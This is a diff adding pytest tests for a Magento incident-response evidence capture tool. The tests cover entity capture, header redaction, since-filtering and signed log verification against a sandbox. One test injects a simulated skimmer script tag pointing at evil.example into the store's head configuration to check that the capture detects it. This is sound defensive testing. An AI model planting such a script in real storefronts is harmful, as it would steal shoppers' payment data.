@@ -1,0 +1,249 @@
+"""Collectors against the in-process sandbox: categories, exchanges, since, failures."""
+
+from __future__ import annotations
+
+import hashlib
+from collections import Counter
+from datetime import UTC, datetime, timedelta, timezone
+from typing import TYPE_CHECKING
+
+import httpx
+import pytest
+
+from magento_ir import ConfigurationError, MagentoClient, set_testing
+from magento_ir.evidence import read_records, verify
+from magento_ir.evidence.collectors import CATEGORIES, CaptureOptions, redact_headers
+from magento_ir.sandbox import Sandbox
+from tests.evidence.collectors.conftest import ADMIN, BASE_URL, capture_sandbox, records_of
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+    from magento_ir.evidence import SigningKey
+
+
+@pytest.fixture(autouse=True)
+def _no_retry_waits() -> Iterator[None]:
+    set_testing(True)
+    yield
+    set_testing(False)
+
+
+def test_full_capture_writes_every_category_and_verifies(
+    tmp_path: Path, signing_key: SigningKey
+) -> None:
+    """A capture records custody around it, every category's entities, and the log verifies."""
+    sandbox = Sandbox(customers=30, orders=12)
+    path = tmp_path / "capture.log"
+    summary = capture_sandbox(sandbox, path, signing_key)
+
+    assert summary.ok
+    assert [result.category for result in summary.results] == list(CATEGORIES)
+    counts = Counter(record.type for record in read_records(path))
+    assert counts["capture.customer"] == 12 + 30
+    assert counts["capture.order"] == counts["capture.payment"] == 1 + 12
+    assert counts["capture.cms_block"] == 1
+    assert counts["capture.cms_page"] == 4
+    assert counts["capture.website"] == 2
+    assert counts["capture.modules"] == 1
+    assert counts["capture.http_exchange"] == summary.exchanges > 10
+    for category in ("customers", "orders", "transactions", "invoices", "cms_pages"):
+        result = summary.result(category)
+        assert result.status == "complete"
+        assert result.captured == result.expected
+    custody = [record.payload["action"] for record in records_of(path, "custody")]
+    assert custody == ["created", "capture_started", "capture_finished"]
+    assert verify(path, signing_key.verifier()).ok
+
+
+def test_base_urls_are_recorded_per_config_path(tmp_path: Path, signing_key: SigningKey) -> None:
+    """storeConfigs' base URLs become one capture.config_value record per core_config path."""
+    path = tmp_path / "capture.log"
+    capture_sandbox(Sandbox(), path, signing_key, categories=["store"])
+    values = {r.payload["path"]: r.payload for r in records_of(path, "capture.config_value")}
+    assert set(values) >= {"web/unsecure/base_url", "web/secure/base_url"}
+    assert values["web/secure/base_media_url"]["source"] == "GET /V1/store/storeConfigs"
+    assert values["web/unsecure/base_url"]["store_code"] == "default"
+
+
+def test_exchange_records_hold_the_body_digest_and_no_credentials(
+    tmp_path: Path, signing_key: SigningKey
+) -> None:
+    """Each exchange stores method, URL, redacted headers, status and the body's SHA-256."""
+    sandbox = Sandbox()
+    path = tmp_path / "capture.log"
+    capture_sandbox(sandbox, path, signing_key, categories=["modules"])
+    token = sandbox.admin_token()
+    with httpx.Client(transport=sandbox.transport(), base_url=BASE_URL) as raw:
+        body = raw.get("/rest/V1/modules", headers={"Authorization": f"Bearer {token}"}).content
+
+    exchanges = {
+        r.payload["request"]["url"]: r.payload for r in records_of(path, "capture.http_exchange")
+    }
+    modules = exchanges["/rest/V1/modules"]
+    assert modules["request"]["method"] == "GET"
+    assert modules["request"]["headers"]["authorization"] == "[REDACTED]"
+    assert modules["response"]["status"] == 200
+    assert modules["response"]["body_sha256"] == hashlib.sha256(body).hexdigest()
+    assert modules["response"]["body_length"] == len(body)
+    login = exchanges["/rest/V1/integration/admin/token"]
+    assert login["request"]["method"] == "POST"
+    assert "body" not in login["request"]
+
+
+def test_redact_headers_hides_credentials_and_joins_repeats() -> None:
+    """Authorization, cookies and secret-named headers keep their names but lose their values."""
+    headers = redact_headers(
+        [
+            ("Authorization", "Bearer abc"),
+            ("Cookie", "PHPSESSID=1"),
+            ("Set-Cookie", "a=1"),
+            ("Set-Cookie", "b=2"),
+            ("X-Api-Token", "t"),
+            ("Content-Type", "application/json"),
+        ]
+    )
+    assert headers == {
+        "authorization": "[REDACTED]",
+        "cookie": "[REDACTED]",
+        "set-cookie": "[REDACTED], [REDACTED]",
+        "x-api-token": "[REDACTED]",
+        "content-type": "application/json",
+    }
+
+
+def test_since_captures_only_what_changed_after_it(tmp_path: Path, signing_key: SigningKey) -> None:
+    """With since=T only customers updated after T are captured, and the count says so."""
+    sandbox = Sandbox(customers=40)
+    first = tmp_path / "all.log"
+    capture_sandbox(sandbox, first, signing_key, categories=["customers"])
+    latest = max(r.payload["updated_at"] for r in records_of(first, "capture.customer"))
+    since = datetime.fromisoformat(latest).replace(tzinfo=UTC)
+    with MagentoClient(BASE_URL, auth=ADMIN, transport=sandbox.transport()) as client:
+        customer = client.customers.retrieve(20)
+        client.customers.update(
+            20,
+            {
+                "email": customer.email,
+                "firstname": "Changed",
+                "lastname": customer.lastname,
+                "website_id": customer.website_id,
+            },
+        )
+
+    changed = tmp_path / "since.log"
+    summary = capture_sandbox(sandbox, changed, signing_key, categories=["customers"], since=since)
+    captured = records_of(changed, "capture.customer")
+    assert [(r.payload["id"], r.payload["firstname"]) for r in captured] == [(20, "Changed")]
+    assert summary.result("customers").expected == 1
+    started = records_of(changed, "capture.started")[0].payload
+    assert started["since"] == since.strftime("%Y-%m-%d %H:%M:%S")
+
+
+def test_admin_categories_are_recorded_as_not_collectable(
+    tmp_path: Path, signing_key: SigningKey
+) -> None:
+    """Admin users, sessions and integrations: no API reads them, and the capture says why."""
+    path = tmp_path / "capture.log"
+    summary = capture_sandbox(
+        Sandbox(with_module=True),
+        path,
+        signing_key,
+        categories=["admin_users", "admin_sessions", "integrations"],
+    )
+    reasons = {
+        r.payload["category"]: r.payload["reason"]
+        for r in records_of(path, "capture.not_collected")
+    }
+    assert set(reasons) == {"admin_users", "admin_sessions", "integrations"}
+    assert "admin_user_session" in reasons["admin_sessions"]
+    assert "companion module (version" in reasons["admin_users"]
+    assert all(result.status == "not_collected" for result in summary.results)
+    assert summary.ok
+
+
+def test_module_category_without_the_module_says_so(
+    tmp_path: Path, signing_key: SigningKey
+) -> None:
+    """Without the companion module there is no action log: recorded, not faked."""
+    path = tmp_path / "capture.log"
+    summary = capture_sandbox(Sandbox(), path, signing_key, categories=["module"])
+    assert summary.result("module").status == "not_collected"
+    assert "not installed" in records_of(path, "capture.not_collected")[0].payload["reason"]
+
+
+def test_storefront_head_shows_an_injected_skimmer(tmp_path: Path, signing_key: SigningKey) -> None:
+    """design/head/includes is seen through the rendered storefront <head>, scripts listed."""
+    sandbox = Sandbox()
+    with sandbox.lock:
+        sandbox.state.set_config(
+            "design/head/includes", '<script src="https://evil.example/skim.js"></script>'
+        )
+    path = tmp_path / "capture.log"
+    capture_sandbox(sandbox, path, signing_key, categories=["design_config"])
+    page = records_of(path, "capture.storefront_page")[0].payload
+    assert "https://evil.example/skim.js" in page["head_html"]
+    head_scripts = [item["src"] for item in page["scripts"] if item["in_head"] and "src" in item]
+    assert "https://evil.example/skim.js" in head_scripts
+    assert "design/head/includes" in page["config_paths"]
+
+
+def test_storefront_that_is_no_html_page_is_not_collected(
+    tmp_path: Path, signing_key: SigningKey
+) -> None:
+    """A storefront answering 404 leaves design config not collected, with the status named."""
+    path = tmp_path / "capture.log"
+    summary = capture_sandbox(
+        Sandbox(),
+        path,
+        signing_key,
+        categories=["design_config"],
+        storefront_url=f"{BASE_URL}/no-such-shop",
+    )
+    result = summary.result("design_config")
+    assert result.status == "not_collected"
+    assert "HTTP 404" in result.reason
+
+
+def test_failed_category_is_recorded_and_the_capture_goes_on(
+    tmp_path: Path, signing_key: SigningKey
+) -> None:
+    """An HTTP failure in one category becomes capture.error; the others are still captured."""
+    sandbox = Sandbox(orders=5)
+    sandbox.faults.schedule("503", path="/V1/invoices", times=20)
+    path = tmp_path / "capture.log"
+    summary = capture_sandbox(
+        sandbox, path, signing_key, categories=["invoices", "orders"], max_retries=0
+    )
+    assert not summary.ok
+    assert summary.result("invoices").status == "failed"
+    assert summary.result("orders").status == "complete"
+    errors = records_of(path, "capture.error")
+    assert [error.payload["category"] for error in errors] == ["invoices"]
+    assert records_of(path, "custody")[-1].payload["action"] == "capture_finished"
+    assert verify(path).ok
+
+
+@pytest.mark.parametrize(
+    ("options", "message"),
+    [
+        ({"categories": ["orders", "nope"]}, "unknown capture categories ['nope']"),
+        ({"since": datetime(2026, 11, 1)}, "timezone-aware"),  # noqa: DTZ001 - the mistake under test
+        ({"page_size": 0}, "page_size must be 1-300"),
+        ({"concurrency": 99}, "concurrency must be 1-16"),
+    ],
+)
+def test_bad_capture_options_are_refused_with_the_fix(
+    options: dict[str, object], message: str
+) -> None:
+    """Nonsense options raise ConfigurationError naming the option and what is accepted."""
+    with pytest.raises(ConfigurationError, match=message.replace("[", r"\[").replace("]", r"\]")):
+        CaptureOptions(**options)  # type: ignore[arg-type]
+
+
+def test_since_is_sent_in_magento_time_format() -> None:
+    """since is compared by Magento as 'YYYY-MM-DD HH:MM:SS' in UTC, whatever its zone."""
+    paris_winter = timezone(timedelta(hours=1))
+    since = datetime(2026, 11, 1, 11, 0, tzinfo=paris_winter)
+    assert CaptureOptions(since=since).since_text() == "2026-11-01 10:00:00"
